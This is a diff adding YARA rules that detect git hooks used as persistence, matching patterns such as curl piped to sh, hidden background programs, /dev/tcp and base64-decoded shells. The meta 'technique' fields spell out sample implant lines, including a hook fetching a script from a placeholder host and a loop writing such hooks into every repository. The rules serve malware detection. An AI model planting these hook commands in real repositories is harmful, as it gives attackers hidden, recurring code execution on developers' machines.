@@ -2670,3 +2670,66 @@ rule bot_perl_mimelite_list_mailer : bot mailer
              for any j in (1..#lp2) : ( @lp2[j] < @new[i] and @lp2[j] + 600 > @new[i] )) ) and
         2 of ($c*)
 }
+
+/* Git hooks as persistence. A hook file (REPO/.git/hooks/NAME, a husky or
+ * core.hooksPath directory) runs at every commit, checkout or merge: one
+ * that pipes a download to a shell (from any source: no build step fetches
+ * code in a hook), starts a hidden or temp-dir program in the background,
+ * opens /dev/tcp or runs fetched Python is an implant. And a script that
+ * writes such a hook into repositories or points core.hooksPath at its own
+ * directory. husky, lefthook and the pre-commit framework run linters and
+ * the project's own tools. */
+private rule hs_git_hook_payload
+{
+    strings:
+        $p1 = /\b(curl|wget)\s[^\n|]{0,300}\|\s{0,4}(sudo\s{1,4})?(\/usr)?(\/bin\/)?((ba|z|da|k)?sh|perl|python[0-9.]{0,4}|node)\b/
+        $p2 = /\b(nohup|setsid)\s{1,4}["']?[^\n;&|\s]{0,60}\/\.[\w.-]{1,40}\//
+        $p3 = /(\/tmp\/|\/var\/tmp\/|\/dev\/shm\/|\/\.[\w.-]{1,40}\/)[\w.\/-]{0,80}["']?\s{0,4}(>\s{0,2}\/dev\/null\s{0,2}2>&1|&>\s{0,2}\/dev\/null|2>\s{0,2}\/dev\/null)?\s{0,4}&\s{0,4}(\)|;|\n|disown|\\n)/
+        $p4 = "/dev/tcp/" ascii
+        $p5 = /\bpython[0-9.]{0,4}\s{1,4}-c\s[^\n]{0,300}\b(urlopen|requests\.get)\b/
+        $p6 = /\bbase64\s{1,4}(-d|--decode)\b[^\n]{0,40}\|\s{0,4}(ba)?sh\b/
+    condition:
+        any of them
+}
+
+rule bot_git_hook_implant : bot
+{
+    meta:
+        description = "Git hook (.git/hooks, husky or a hooks directory) that fetches and runs code, starts a hidden or temp-dir program in the background, or opens /dev/tcp"
+        severity = "high"
+        technique = ".git/hooks/post-merge: (curl -fsSL https://x/s.sh | sh) >/dev/null 2>&1 &; post-checkout: nohup \"$HOME/.local/share/.x/d\" >/dev/null 2>&1 &"
+        seen = "none"
+    condition:
+        filesize < 256KB and
+        filepath matches /\/(\.git\/hooks|\.husky|\.githooks|hooks)\/(pre|post)-[a-z-]{3,24}$|\/(\.git\/hooks|\.husky|\.githooks|hooks)\/(prepare-commit-msg|commit-msg|applypatch-msg|update|reference-transaction|push-to-checkout|sendemail-validate)$/ and
+        not hs_doc_file and hs_git_hook_payload
+}
+
+rule bot_git_hook_install : bot
+{
+    meta:
+        description = "Script writing a git hook that fetches and runs code or starts a hidden program, or pointing core.hooksPath at its own directory of such hooks"
+        severity = "high"
+        technique = "for g in $(find ~ -name .git); do printf '#!/bin/sh\\n(curl .. | sh) &\\n' > $g/hooks/post-merge; chmod +x ..; done; git config --global core.hooksPath ~/.config/.h"
+        seen = "none"
+    strings:
+        $hk = /hooks\/(pre-commit|pre-push|pre-rebase|pre-merge-commit|post-merge|post-checkout|post-commit|post-rewrite|post-receive|pre-receive|post-update|prepare-commit-msg|commit-msg)\b|["'](pre-commit|pre-push|post-merge|post-checkout|post-commit|post-rewrite)["']/
+        $hp = /\bcore\.hooksPath\b/
+        $gl = /\bgit\s{1,4}config\s{1,4}(--global|--system)\s{1,4}core\.hooksPath\s/
+        // the hook's payload (hs_git_hook_payload's), near the hook's name: a
+        // developer's setup script may install tools with curl | sh and, far
+        // from it, copy the project's hooks
+        $p1 = /\b(curl|wget)\s[^\n|]{0,300}\|\s{0,4}(sudo\s{1,4})?(\/usr)?(\/bin\/)?((ba|z|da|k)?sh|perl|python[0-9.]{0,4}|node)\b/
+        $p2 = /\b(nohup|setsid)\s{1,4}["']?[^\n;&|\s]{0,60}\/\.[\w.-]{1,40}\//
+        $p3 = /(\/tmp\/|\/var\/tmp\/|\/dev\/shm\/|\/\.[\w.-]{1,40}\/)[\w.\/-]{0,80}["']?\s{0,4}(>\s{0,2}\/dev\/null\s{0,2}2>&1|&>\s{0,2}\/dev\/null|2>\s{0,2}\/dev\/null)?\s{0,4}&\s{0,4}(\)|;|\n|disown|\\n)/
+        $p4 = "/dev/tcp/" ascii
+        $p5 = /\bpython[0-9.]{0,4}\s{1,4}-c\s[^\n]{0,300}\b(urlopen|requests\.get)\b/
+        $p6 = /\bbase64\s{1,4}(-d|--decode)\b[^\n]{0,40}\|\s{0,4}(ba)?sh\b/
+    condition:
+        filesize < 512KB and not hs_doc_file and
+        (hs_lang_shell or hs_shebang or hs_lang_python or hs_lang_perl) and
+        ($hk or ($hp and $gl)) and hs_git_hook_payload and
+        for any of ($p*) : ( for any i in (1..#) : (
+            for any j in (1..#hk) : ( @hk[j] > @[i] - 600 and @hk[j] < @[i] + 600 ) or
+            for any j in (1..#gl) : ( @gl[j] > @[i] - 600 and @gl[j] < @[i] + 600 ) ) )
+}
